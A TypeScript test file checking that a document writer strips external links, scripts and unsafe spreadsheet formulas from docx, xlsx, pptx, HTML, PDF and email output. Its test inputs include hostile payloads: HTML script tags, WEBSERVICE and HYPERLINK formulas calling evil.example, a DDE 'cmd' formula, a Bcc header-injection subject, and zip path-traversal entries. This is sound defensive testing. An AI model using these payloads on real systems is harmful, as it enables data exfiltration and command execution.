import { unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { documentsInThread } from '../../../tests/doubles/documents-in-thread.ts'
import type { WriteSpec } from '../../ports/documents.ts'
import { packageProblems } from '../check/ooxml.ts'
import { entryOf, openZip, packZip } from '../edit/zip.ts'
import { inFile } from './formula-names.ts'
import { formulaProblem } from './formula-safety.ts'

const HOSTILE = `# [click](https://evil.example/a) ![x](https://evil.example/p.png)

<img src="https://evil.example/q.png"> <script>alert(1)</script> <a href="javascript:1">go</a> [mail](mailto:a@evil.example)

=HYPERLINK("https://evil.example") <iframe src="//evil.example"></iframe>`

async function write(spec: WriteSpec): Promise<Uint8Array> {
  const written = await documentsInThread.write(spec)
  if (!written.ok) throw new Error(written.failure.message)
  return written.value
}

describe('nothing we write leads out of itself', () => {
  const specs: WriteSpec[] = [
    { format: 'docx', markdown: HOSTILE, title: HOSTILE, header: HOSTILE, footer: HOSTILE, contents: true },
    {
      format: 'xlsx',
      sheets: [
        {
          name: 'a',
          rows: [
            ['https://evil.example', HOSTILE],
            ['=HYPERLINK("https://evil.example")', 1],
          ],
        },
      ],
    },
    { format: 'pptx', slides: [{ title: 'https://evil.example', bullets: [{ text: HOSTILE }], notes: HOSTILE }] },
  ]
  test.each(specs)('$format', async spec => {
    const bytes = await write(spec)
    const problems = packageProblems(bytes)
    expect(problems.ok && problems.value).toEqual([])
    for (const [name, part] of Object.entries(unzipSync(bytes))) {
      const text = new TextDecoder().decode(part)
      expect(text, name).not.toMatch(
        /TargetMode="External"|attachedTemplate|INCLUDEPICTURE|externalLink|<f>[^<]*HYPERLINK/,
      )
    }
  })

  test('html: no element fetches, runs or leads anywhere', async () => {
    const html = new TextDecoder().decode(await write({ format: 'html', markdown: HOSTILE, title: HOSTILE }))
    expect(html).not.toMatch(/<(script|iframe|a|img|link|object|embed|form)\b/i)
    expect(html).toContain(`default-src 'none'`)
  })

  test('pdf: no links and no actions', async () => {
    const { PDFDocument } = await import('@cantoo/pdf-lib')
    const pdf = await PDFDocument.load(await write({ format: 'pdf', markdown: HOSTILE }))
    const objects = pdf.context.enumerateIndirectObjects().map(([, object]) => String(object))
    expect(objects.filter(object => /\/(URI|JavaScript|JS|Launch|GoToR|SubmitForm|Link)\b/.test(object))).toEqual([])
    expect(objects.length).toBeGreaterThan(5)
  })
})

describe('formulas', () => {
  test.each([
    'WEBSERVICE("https://evil.example/"&A1)',
    'image("https://evil.example")',
    'HYPERLINK("https://evil.example","x")',
    '_xlfn.WEBSERVICE(A1)',
    "cmd|' /C calc'!A0",
    '[other.xlsx]Sheet1!A1',
    "'C:\\x\\[other.xlsx]Sheet1'!A1",
    'IMPORTXML("x","y")',
    'RTD("a",,"b")',
  ])('%s is not written', async formula => {
    expect(formulaProblem(formula)).not.toBeNull()
    const written = await documentsInThread.write({ format: 'xlsx', sheets: [{ name: 'a', rows: [[{ formula }]] }] })
    expect(written.ok).toBe(false)
  })

  test.each(['SUM(A1:A3)', '"[not]a book!"&A1', 'Table1[total]', "'O''Hara'!A1", 'IF(A1="a|b",1,2)'])(
    '%s is',
    formula => expect(formulaProblem(formula)).toBeNull(),
  )

  test('a function that is not known is told, not written', async () => {
    const written = await documentsInThread.write({
      format: 'xlsx',
      sheets: [{ name: 'a', rows: [[{ formula: 'NOSUCH(1)' }]] }],
    })
    expect(written.ok ? '' : written.failure.message).toContain('a!A1')
  })

  test('newer functions get the prefix that files want, and text between quotes does not', () => {
    expect(inFile('TEXTJOIN("CONCAT(x)",1,A1)&sum(B1)&SORT(A1:A2)')).toBe(
      '_xlfn.TEXTJOIN("CONCAT(x)",1,A1)&sum(B1)&_xlfn._xlws.SORT(A1:A2)',
    )
    expect(inFile('_xlfn.CONCAT(A1)')).toBe('_xlfn.CONCAT(A1)')
  })
})

describe('what cannot be written is told', () => {
  const refused: { why: string; spec: WriteSpec; says: RegExp }[] = [
    { why: 'a sheet name', spec: { format: 'xlsx', sheets: [{ name: 'a/b', rows: [] }] }, says: /"a\/b"/ },
    {
      why: 'a sheet name twice',
      spec: {
        format: 'xlsx',
        sheets: [
          { name: 'a', rows: [] },
          { name: 'A', rows: [] },
        ],
      },
      says: /Two sheets/,
    },
    {
      why: 'a date',
      spec: { format: 'xlsx', sheets: [{ name: 'a', rows: [[{ date: '2026-02-30' }]] }] },
      says: /2026-02-30/,
    },
    {
      why: 'a picture',
      spec: { format: 'docx', markdown: '![x](a.png)', images: { 'a.png': new Uint8Array([1]) } },
      says: /a\.png/,
    },
    {
      why: 'a zone',
      spec: { format: 'ics', events: [{ uid: '1', title: 't', start: '2026-01-01T09:00', zone: 'Mars/One' }] },
      says: /Mars/,
    },
    {
      why: 'a mail address',
      spec: { format: 'eml', mail: { from: 'nobody', to: ['a@b.c'], subject: '', text: '' } },
      says: /nobody/,
    },
  ]
  test.each(refused)('$why', async ({ spec, says }) => {
    const written = await documentsInThread.write(spec)
    expect(written.ok ? 'written' : written.failure.message).toMatch(says)
  })

  test('a line break in a subject adds no header', async () => {
    const mail = new TextDecoder().decode(
      await write({
        format: 'eml',
        mail: { from: 'a@b.cc', to: ['d@e.ff'], subject: 'x\r\nBcc: spy@evil.example', text: '' },
      }),
    )
    expect(mail).not.toMatch(/^Bcc:/m)
  })
})

test('an archive with a part twice, or one that leads outside, is not opened', () => {
  const part = (name: string) => entryOf(name, new TextEncoder().encode('x'))
  for (const entries of [[part('a'), part('a')], [part('../a')], [part('/a')], [part('a\\..\\b')]])
    expect(openZip(packZip(entries)).ok).toBe(false)
  expect(openZip(packZip([part('a'), part('b')])).ok).toBe(true)
})
